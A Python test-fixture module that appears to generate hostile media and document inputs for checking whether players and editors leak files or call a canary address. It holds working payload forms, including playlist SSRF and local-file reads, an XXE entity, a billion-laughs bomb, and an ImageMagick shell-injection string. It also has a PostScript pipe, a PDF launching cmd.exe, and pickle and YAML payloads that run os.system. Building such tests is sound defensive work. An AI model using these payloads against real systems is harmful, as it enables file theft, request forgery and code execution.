"""Texts that make careless players and editors open other files, or call the network."""

from __future__ import annotations

import base64

from tests.hostile.canary import Cage
from tests.unit.codecs.boxes import box

_HEAD = box(b"ftyp", b"isom\0\0\2\0isommp41")
_JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0"


def playlists(cage: Cage) -> dict[str, bytes]:
    """Each syntax with each target; alone, behind a film's head, and behind a photo's."""
    targets = {
        "the network": cage.address + b"a.ts",
        "a file": b"file://" + cage.path,
        "a path": cage.path,
        "datagrams": b"udp://127.0.0.1:%d" % cage.port,
        "two files": b"concat:" + cage.path + b"|" + cage.address,
        "data": b"data:text/plain;base64," + base64.b64encode(b"#EXTM3U\n" + cage.path),
        "a part of a file": b"subfile,,start,0,end,99,,:" + cage.path,
        "a secure stream": b"tls://127.0.0.1:%d" % cage.port,
    }
    made = {}
    for name, target in targets.items():
        for syntax, text in _texts(target).items():
            made[f"{syntax} of {name}"] = text
        hls = _texts(target)["an HLS playlist"]
        made[f"an HLS playlist of {name} behind a film's head"] = _HEAD + hls
        made[f"an HLS playlist of {name} in a film's box"] = _HEAD + box(b"mdat", hls)
        made[f"an HLS playlist of {name} behind a photo's head"] = _JPEG + hls
    return made


def _texts(target: bytes) -> dict[str, bytes]:
    return {
        "an HLS playlist": b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:9,\n%s\n#EXT-X-ENDLIST\n"
        % target,
        "a concat script": b"ffconcat version 1.0\nfile '%s'\nduration 2\n" % target,
        "a session description": b"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=%s\nc=IN IP4 127.0.0.1\n"
        b"t=0 0\nm=video 5004 RTP/AVP 96\na=control:%s\n" % (target, target),
        "an XSPF playlist": b"<?xml version='1.0'?><playlist xmlns='http://xspf.org/ns/0/'>"
        b"<trackList><track><location>%s</location></track></trackList></playlist>" % target,
    }


def keyed_playlists(cage: Cage) -> dict[str, bytes]:
    """What else an HLS playlist, a manifest or a text track can name."""
    here, there = cage.path, cage.address
    start = b"#EXTM3U\n#EXT-X-TARGETDURATION:9\n"
    return {
        "an HLS playlist with a key elsewhere": start
        + b'#EXT-X-KEY:METHOD=AES-128,URI="%s"\n#EXTINF:9,\na.ts\n' % there,
        "an HLS playlist with a map elsewhere": start
        + b'#EXT-X-MAP:URI="file://%s"\n#EXTINF:9,\na.mp4\n' % here,
        "an HLS playlist of playlists": start
        + b"#EXT-X-STREAM-INF:BANDWIDTH=1\n%sb.m3u8\n" % there,
        "an HLS playlist of itself": start + b"#EXT-X-STREAM-INF:BANDWIDTH=1\noriginal\n",
        "an HLS playlist with subtitles elsewhere": start
        + b'#EXT-X-MEDIA:TYPE=SUBTITLES,GROUP-ID="s",NAME="s",URI="%s"\n' % there,
        "an HLS playlist of 100 000 pieces": start + b"#EXTINF:9,\n%sa.ts\n" % there * 20_000,
        "a DASH manifest": b"<?xml version='1.0'?><MPD xmlns='urn:mpeg:dash:schema:mpd:2011'>"
        b"<BaseURL>%s</BaseURL></MPD>" % there,
        "a smooth manifest": b"<SmoothStreamingMedia><StreamIndex Url='%s'/>" % there,
        "a list of a winamp": b"[playlist]\nFile1=%s\nNumberOfEntries=1\n" % there,
        "a list of an ASX": b"<asx version='3.0'><entry><ref href='%s'/></entry></asx>" % there,
        "a pointer of QuickTime": b"<?quicktime type='application/x-quicktime-media-link'?>"
        b"<embed src='%s'/>" % there,
        "a text of reference movies": b"RTSPtext\r\nrtsp://127.0.0.1:%d/x\r\n" % cage.port,
        "subtitles with pictures elsewhere": b"WEBVTT\n\n00:00.000 --> 00:09.000\n<img src=%s>\n"
        % there,
        "subtitles of SubStation": b"[Script Info]\n[Fonts]\nfontname: %s\n" % here,
        "a script of AviSynth": b'AviSource("%s")\n' % here,
        "a script of VapourSynth": b'import os\nos.system("cat %s")\n' % here,
        "a graph of filters": b"movie=filename=%s[out]\n" % here,
        "a preset of ffmpeg": b"i=%s\nf=mp4\n" % here,
        "numbers of pictures": b"%s-%%d.jpg" % here,
        "a list of cues": b'FILE "%s" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n' % here,
    }


def programs(cage: Cage) -> dict[str, bytes]:
    """Drawings and documents that are programs for the editors that read them."""
    here, there = cage.path, cage.address
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' xmlns:x='http://www.w3.org/1999/xlink'"
    svg += b" width='64' height='48'"
    entity = b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file://%s'>]>" % here
    laughs = b"".join(
        b"<!ENTITY a%d '%s'>" % (each, b"&a%d;" % (each - 1) * 10 if each else b"ha")
        for each in range(10)
    )
    return {
        "a drawing that reads a file": svg + b"><image x:href='file://%s'/></svg>" % here,
        "a drawing that calls": svg + b"><image href='%s' width='9' height='9'/></svg>" % there,
        "a drawing with an entity": entity + svg + b"><text>&x;</text></svg>",
        "a drawing that laughs a billion times": b"<?xml version='1.0'?><!DOCTYPE svg ["
        + laughs
        + b"]>"
        + svg
        + b"><text>&a9;</text></svg>",
        "a drawing with a style elsewhere": svg + b"><style>@import '%s';</style></svg>" % there,
        "a drawing with a script": svg + b" onload='fetch(\"%s\")'/>" % there,
        "a drawing of a gigapixel": svg.replace(b"64", b"100000").replace(b"48", b"100000")
        + b"><rect/></svg>",
        "a drawing of uses of uses": svg + b"><g id='a'><use href='#a'/></g><use href='#a'/></svg>",
        "a drawing behind a mark of order": b"\xef\xbb\xbf" + svg + b"/>",
        "a drawing in UTF-16": (svg + b"/>").decode().encode("utf-16"),
        "a drawing of an editor that reads": b"push graphic-context\nviewbox 0 0 9 9\n"
        b"image over 0,0 0,0 'label:@%s'\npop graphic-context\n" % here,
        "a drawing of an editor that calls": b"push graphic-context\n"
        b"fill 'url(%s\"|touch \"pwned)'\npop graphic-context\n" % there,
        "a drawing of an editor by its name": b"<image><read filename='%s'/></image>" % here,
        "a vector of an editor": b"msl:%s" % here,
        "a caption of an editor": b"caption:@%s" % here,
        "a postscript that reads": b"%%!PS\n(%s) (r) file 100 string readstring pop show\n" % here,
        "a postscript that runs": b"%!PS\n(%pipe%id) (w) file\n",
        "an encapsulated postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n",
        "a pdf that calls": b"%%PDF-1.4\n1 0 obj<</OpenAction<</S/URI/URI(%s)>>>>endobj\n" % there,
        "a pdf that runs": b"%PDF-1.7\n1 0 obj<</S/Launch/Win<</F(cmd.exe)>>>>endobj\n",
        "a page that calls": b"<!doctype html><html><script src='%s'></script></html>" % there,
        "a page behind spaces": b" \n\t\n" * 90 + b"<html><script>hostile</script></html>",
        "a style sheet": b"@import url('%s'); body { background: url('%s') }" % (there, there),
        "a web archive": b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n" + there,
        "a shortcut": b"[InternetShortcut]\nURL=%s\n" % there,
        "a launcher": b"[Desktop Entry]\nType=Application\nExec=cat %s\n" % here,
        "a document of text": b"{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE %s}}}" % there,
        "a program of PHP": b"<?php readfile('%s'); ?>" % here,
        "a program of a shell": b"#!/bin/sh\ncat %s\n" % here,
        "a pickle": b"\x80\x04\x95\x1f\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93.",
        "a YAML that runs": b"!!python/object/apply:os.system ['cat %s']\n" % here,
        "a request": b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    }
